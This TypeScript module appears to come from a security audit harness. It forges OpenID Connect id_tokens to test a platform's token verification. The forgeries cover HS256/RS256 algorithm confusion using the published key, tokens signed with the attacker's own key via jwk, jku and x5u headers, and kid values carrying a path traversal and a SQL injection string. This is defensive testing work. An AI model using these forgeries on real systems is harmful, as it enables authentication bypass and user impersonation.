import { createHmac, createPublicKey, createSign, generateKeyPair, type JsonWebKey, type KeyObject } from 'node:crypto'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { promisify } from 'node:util'
import type { AuditContext } from '../context/context.js'
import type { Person } from '../context/person.js'

const OWN_KID = 'audit-own-key'

/** Makes a forged id_token from claims, with public information only. */
export type Forge = (claims: object) => string

const encode = (part: unknown) => Buffer.from(JSON.stringify(part)).toString('base64url')

const forge =
  (header: object, signatureOf: (signed: string) => string): Forge =>
  (claims) => {
    const signed = `${encode({ typ: 'JWT', ...header })}.${encode(claims)}`
    return `${signed}.${signatureOf(signed)}`
  }

const hs256 = (secret: string | Buffer) => (signed: string) =>
  createHmac('sha256', secret).update(signed).digest('base64url')

const rs256 = (key: KeyObject) => (signed: string) => createSign('RSA-SHA256').update(signed).sign(key, 'base64url')

/** Returns the claims of a genuine id_token for a person's sign-in. spec: §4.9 */
export function genuineClaims({ app, issuer }: AuditContext, { tenant }: Person, request: URL): object {
  const nonce = request.searchParams.get('nonce')
  const iat = Math.floor(Date.now() / 1000)
  const { id: sub, email, full_name: name } = tenant.user
  return { iss: issuer, sub, aud: app.clientId, iat, exp: iat + 3600, ...(nonce && { nonce }), name, email }
}

/** Tokens signed with HS256, using the published key in each of its usual encodings. CVE-2022-29217 */
export async function publicKeyAsSecret({ attacker, issuer }: AuditContext): Promise<Record<string, Forge>> {
  const { response } = await attacker.send({ method: 'GET', url: `${issuer}/.well-known/jwks.json` })
  const { keys } = JSON.parse(response.body) as { keys: (JsonWebKey & { kid?: string })[] }
  // Others may be beside the one that signs id_tokens. spec: §4.9
  const key = keys.find(({ kty, alg, use }) => kty === 'RSA' && alg === 'RS256' && use === 'sig')
  if (!key) throw new Error('the platform publishes no key')
  const published = createPublicKey({ key, format: 'jwk' })
  const pem = published.export({ type: 'spki', format: 'pem' }).toString()
  const signedBy = (secret: string | Buffer) => forge({ alg: 'HS256', kid: key.kid }, hs256(secret))
  return {
    'its PEM': signedBy(pem),
    'its PEM without the last line break': signedBy(pem.trimEnd()),
    'its PEM with CRLF': signedBy(pem.replaceAll('\n', '\r\n')),
    'its PEM of PKCS#1': signedBy(published.export({ type: 'pkcs1', format: 'pem' }).toString()),
    'its DER': signedBy(published.export({ type: 'spki', format: 'der' })),
    'its JWK': signedBy(JSON.stringify(key)),
  }
}

/** Returns a token signed with an unpublished key. One of a published key under another kid may be accepted. faults: `unknown_kid` */
export const unpublishedKey = async (context: AuditContext): Promise<Record<string, Forge>> => ({
  'of another key': (await ownKeyOf(context)).signedWith({}),
})

/** Tokens whose header names the key that they are signed with: CVE-2018-0114 */
export async function ownKeys(context: AuditContext, keysUrl: string): Promise<Record<string, Forge>> {
  const { jwk, signedWith } = await ownKeyOf(context)
  return { jwk: signedWith({ jwk }), jku: signedWith({ jku: keysUrl }), x5u: signedWith({ x5u: keysUrl }) }
}

/** Key ids that become a path or a query where a program looks keys up by them. */
export const oddKids = async (context: AuditContext): Promise<Record<string, Forge>> => ({
  'a path to an empty file': forge({ alg: 'HS256', kid: '../../../../../../../../dev/null' }, hs256('')),
  'a quote': (await ownKeyOf(context)).signedWith({ kid: "' OR '1'='1' -- " }),
})

const ownKeyOf = ({ once: onlyOnce }: AuditContext) =>
  onlyOnce('the own key of the attacker', async () => {
    const { publicKey, privateKey } = await promisify(generateKeyPair)('rsa', { modulusLength: 2048 })
    return {
      jwk: { ...publicKey.export({ format: 'jwk' }), kid: OWN_KID, alg: 'RS256', use: 'sig' },
      signedWith: (header: object) => forge({ alg: 'RS256', kid: OWN_KID, ...header }, rs256(privateKey)),
    }
  })

/** Serves the attacker's key set while an action runs. @returns its result and the number of requests. */
export async function whileServingKeys<T>(context: AuditContext, act: (url: string) => Promise<T>) {
  const { jwk } = await ownKeyOf(context)
  let requests = 0
  const server = createServer((_, response) => {
    requests++
    response.setHeader('content-type', 'application/json').end(JSON.stringify({ keys: [jwk] }))
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  try {
    const { port } = server.address() as AddressInfo
    return { result: await act(`http://127.0.0.1:${port}/keys.json`), requests }
  } finally {
    server.closeAllConnections()
    server.close()
  }
}
